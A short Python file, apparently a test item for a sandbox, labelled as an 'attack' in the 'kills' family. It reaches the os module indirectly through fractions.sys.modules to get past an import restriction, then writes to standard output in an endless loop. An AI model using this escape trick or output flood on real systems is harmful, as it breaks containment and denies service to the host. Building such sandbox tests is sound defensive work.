# attack: writes past Python into the process's standard output without end
# family: kills
import fractions

os = [fractions][0].sys.modules["os"]
print("REACHED", os)
while True:
    os.write(1, b"clay " * 10_000)
